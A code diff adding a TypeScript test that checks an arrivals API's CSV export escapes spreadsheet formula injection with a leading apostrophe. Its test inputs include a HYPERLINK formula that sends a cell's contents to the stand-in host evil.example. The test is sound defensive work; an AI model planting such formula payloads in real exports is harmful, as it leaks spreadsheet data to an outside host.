@@ -145,6 +145,29 @@ describe('arrivals API', () => {
     expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(ids);
   });
 
+  it('exports text a spreadsheet would run as a formula with a leading apostrophe', async () => {
+    const id = await send(net.kz, 'aci', variant(road(), (d) => {
+      d.functionalReference = 'API-CSV-1';
+      d.borderTransportMeans.id = '=1+1';
+      d.officeOfEntry.borderCrossingPoint = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+      d.transportEquipment = [{ id: '@SUM(A1)', seals: ['S1'] }];
+    }));
+    await arrival(net.kg, id);
+    const r = await api(net.kg, 'GET', `/v1/arrivals/export?format=csv&transportMeans=${encodeURIComponent('=1+1')}`);
+    const [header, row, ...rest] = r.text.trim().split('\r\n');
+    expect(rest).toEqual([]);
+    const at = (column: string): number => header!.split(',').indexOf(column);
+    const cells = row!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
+    expect(cells[at('id')]).toBe(id);
+    expect(cells[at('transportMeans')]).toBe("'=1+1");
+    expect(cells[at('borderCrossingPoint')]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
+    expect(cells[at('containers')]).toBe("'@SUM(A1)");
+    expect(cells[at('grossMassKg')]).toMatch(/^\d/);
+    // JSON lines carry the values as they are
+    const jsonl = await api(net.kg, 'GET', `/v1/arrivals/export?format=jsonl&transportMeans=${encodeURIComponent('=1+1')}`);
+    expect(JSON.parse(jsonl.text.trim()).transportMeans.id).toBe('=1+1');
+  });
+
   it('exports the filtered arrivals as JSON lines', async () => {
     const r = await api(net.kg, 'GET', '/v1/arrivals/export?format=jsonl&transportMeans=API01&hsPrefix=8471');
     const rows = r.text.trim().split('\n').map((l) => JSON.parse(l));
